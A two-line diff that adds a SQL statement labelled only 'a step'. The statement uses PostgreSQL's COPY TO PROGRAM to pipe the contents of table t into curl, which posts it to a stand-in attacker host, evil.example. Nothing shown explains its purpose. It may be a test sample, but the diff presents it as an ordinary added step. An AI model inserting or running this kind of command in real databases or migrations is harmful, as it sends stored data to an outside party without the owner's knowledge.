@@ -1,0 +1,2 @@
+-- a step
+COPY t TO PROGRAM 'curl -d @- http://evil.example';
